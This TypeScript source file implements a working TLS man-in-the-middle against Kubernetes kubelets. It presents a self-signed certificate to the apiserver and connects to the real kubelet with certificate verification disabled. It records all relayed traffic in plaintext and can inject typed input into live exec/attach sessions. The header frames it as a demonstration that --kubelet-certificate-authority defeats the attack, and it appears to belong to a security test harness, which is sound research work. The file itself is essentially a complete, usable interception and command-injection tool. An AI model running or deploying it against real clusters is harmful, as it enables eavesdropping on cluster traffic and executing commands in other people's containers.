// The document's man in the middle (C9): a TLS server on the address a kubelet advertises that shows its own
// certificate, dials the real kubelet without checking its certificate, relays both ways, reads everything in
// plaintext and can type into a live exec/attach session. An apiserver with --kubelet-certificate-authority
// refuses its certificate, and it learns nothing.
import { connect as netConnect, isIP, type AddressInfo, type Socket } from 'node:net';
import { connect as tlsConnect, createServer, type TLSSocket } from 'node:tls';
import type { Duplex } from 'node:stream';
import { createSelfSignedServingCert } from '@hubspoke/pki';
import type { Logger } from 'pino';
import { CaptureRecorder, type Capture } from './capture.ts';
import { Channel, encodeStdinFrame } from './channel-message.ts';
import { FrameInjector } from './frame-injector.ts';
import { Opcode } from './websocket-frames.ts';

/** Where to listen and whom to relay to. */
export interface MitmOptions {
  /** The address the victim kubelet advertises (its Node's InternalIP) and the kubelet port. */
  listen: { host: string; port: number };
  /**
   * The real kubelet; `localAddress` binds the relay's own connections to a source address (across hosts, one
   * that policy routing sends to the node rather than back into the attacker's own interception routes).
   */
  upstream: { host: string; port: number; localAddress?: string };
  /** The certificate shown to the apiserver; default a fresh self-signed one for `listen.host`. */
  certificate?: { cert: string; key: string };
  logger?: Logger;
}

/**
 * A connection the apiserver gave up on without sending a byte: `tls-error` when the handshake itself failed
 * on our side, `closed-before-request` when the apiserver finished the handshake, judged the certificate
 * afterwards and hung up.
 */
export interface HandshakeFailure {
  client: string;
  kind: 'tls-error' | 'closed-before-request';
  reason: string;
}

/** Which live session to type into; default the newest exec/attach session with stdin. */
export type SessionMatcher = (capture: Capture) => boolean;

/** Outcome of an injection: written (or queued until the client's current frame ends), or no session. */
export type InjectResult = { kind: 'injected'; captureId: number; queued: boolean } | { kind: 'no-session' };

/** A running man in the middle. */
export interface Mitm {
  address: string;
  port: number;
  /** Every connection that carried plaintext, oldest first (live objects: they grow as traffic flows). */
  captures(): Capture[];
  /** Call `cb` for each new connection once its first plaintext arrives; returns an unsubscribe. */
  onCapture(cb: (capture: Capture) => void): () => void;
  /** Write `input` to the stdin channel of a live exec/attach session, as if the user had typed it. */
  injectStdin(input: string | Buffer, match?: SessionMatcher): InjectResult;
  /** How many connections ended without plaintext (the apiserver refused the certificate). */
  handshakeFailures(): number;
  failures(): HandshakeFailure[];
  close(): Promise<void>;
}

interface Connection {
  recorder: CaptureRecorder;
  upstream: TLSSocket;
  injector?: FrameInjector;
}

/** Start listening; resolves once the port is bound. */
export async function startMitm(options: MitmOptions): Promise<Mitm> {
  const log = options.logger?.child({ component: 'mitm' });
  const certificate = options.certificate ?? (await createSelfSignedServingCert({ host: options.listen.host }));
  const captures: Capture[] = [];
  const failures: HandshakeFailure[] = [];
  const live = new Set<Connection>();
  const sockets = new Set<Duplex>();
  const listeners = new Set<(c: Capture) => void>();
  let nextId = 1;

  const server = createServer({ cert: certificate.cert, key: certificate.key, ALPNProtocols: ['http/1.1'] }, (client) => {
    const from = `${client.remoteAddress}:${client.remotePort}`;
    client.pause(); // nothing moves until the kubelet side is up
    const upstream = tlsConnect({
      socket: netConnect({ host: options.upstream.host, port: options.upstream.port, localAddress: options.upstream.localAddress }),
      servername: isIP(options.upstream.host) ? undefined : options.upstream.host,
      rejectUnauthorized: false, // the attacker trusts anyone: it only wants the bytes
      ALPNProtocols: ['http/1.1'],
    });
    track(client);
    track(upstream);
    upstream.once('secureConnect', () => client.resume());
    let connection: Connection | undefined;

    client.on('data', (chunk: Buffer) => {
      if (!connection) {
        connection = { recorder: new CaptureRecorder({ id: nextId++, client: from }), upstream };
        captures.push(connection.recorder.capture);
        live.add(connection);
        log?.info({ id: connection.recorder.capture.id, client: from }, 'intercepting a connection');
        for (const cb of listeners) cb(connection.recorder.capture);
      }
      connection.recorder.fromApiserver(chunk);
      relay(client, upstream, connection.injector ? safePush(connection, chunk) : [chunk]);
    });
    upstream.on('data', (chunk: Buffer) => {
      if (connection) {
        connection.recorder.fromKubelet(chunk);
        // Frames can be spliced only if the injector has seen every frame byte since the upgrade.
        if (!connection.injector && connection.recorder.stdinSession && connection.recorder.upgradedToKubelet === 0) {
          connection.injector = new FrameInjector();
        }
      }
      relay(upstream, client, [chunk]);
    });

    let ended = false;
    const finish = (reason: string): void => {
      if (ended) return;
      ended = true;
      if (connection) {
        connection.recorder.close();
        live.delete(connection);
      } else {
        failures.push({ client: from, kind: 'closed-before-request', reason });
        log?.info({ client: from, reason }, 'the apiserver hung up before sending a request');
      }
      client.destroy();
      upstream.destroy();
    };
    client.on('end', () => upstream.end());
    upstream.on('end', () => client.end());
    client.on('close', () => finish('closed'));
    upstream.on('close', () => finish('kubelet closed'));
    client.on('error', (err: NodeJS.ErrnoException) => finish(err.code ?? err.message));
    upstream.on('error', (err: NodeJS.ErrnoException) => {
      log?.warn({ err: err.message }, 'the kubelet connection failed');
      finish(err.code ?? err.message);
    });
  });

  server.on('tlsClientError', (err: NodeJS.ErrnoException, socket) => {
    // A reset socket has forgotten its peer.
    const from = socket.remoteAddress ? `${socket.remoteAddress}:${socket.remotePort}` : 'unknown';
    failures.push({ client: from, kind: 'tls-error', reason: err.code ?? err.message });
    log?.info({ client: from, reason: err.code ?? err.message }, 'TLS handshake failed');
  });
  server.on('connection', (s: Socket) => track(s));

  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(options.listen.port, options.listen.host, () => {
      server.removeListener('error', reject);
      resolve();
    });
  });
  const bound = server.address() as AddressInfo;

  function track(s: Duplex): void {
    sockets.add(s);
    s.once('close', () => sockets.delete(s));
  }

  return {
    address: bound.address,
    port: bound.port,
    captures: () => [...captures],
    onCapture(cb) {
      listeners.add(cb);
      return () => listeners.delete(cb);
    },
    injectStdin(input, match) {
      const data = typeof input === 'string' ? Buffer.from(input) : input;
      const target = [...live].reverse().find((c) => c.injector && c.recorder.stdinSession && (match?.(c.recorder.capture) ?? true));
      if (!target?.injector) return { kind: 'no-session' };
      const session = target.recorder.stdinSession!;
      const now = target.injector.inject(encodeStdinFrame(session.subprotocol, data));
      for (const chunk of now) target.upstream.write(chunk);
      const opcode = session.subprotocol.includes('base64') ? Opcode.text : Opcode.binary;
      target.recorder.recordInjected({ direction: 'to-kubelet', opcode, channel: Channel.stdin, data });
      log?.info({ id: target.recorder.capture.id, bytes: data.length }, 'injected stdin');
      return { kind: 'injected', captureId: target.recorder.capture.id, queued: now.length === 0 };
    },
    handshakeFailures: () => failures.length,
    failures: () => [...failures],
    async close() {
      const closed = new Promise<void>((resolve) => server.close(() => resolve()));
      for (const s of sockets) s.destroy();
      await closed;
    },
  };
}

/** Through the injector; if the client's bytes stop parsing as frames, relay them untouched from then on. */
function safePush(connection: Connection, chunk: Buffer): Buffer[] {
  try {
    return connection.injector!.push(chunk).forward;
  } catch {
    connection.injector = undefined;
    return [chunk];
  }
}

/** Write in order; a slow reader pauses the writer until it drains. */
function relay(source: Duplex, dest: Duplex, chunks: Buffer[]): void {
  let ok = true;
  for (const chunk of chunks) ok = dest.write(chunk);
  if (!ok) {
    source.pause();
    dest.once('drain', () => source.resume());
  }
}
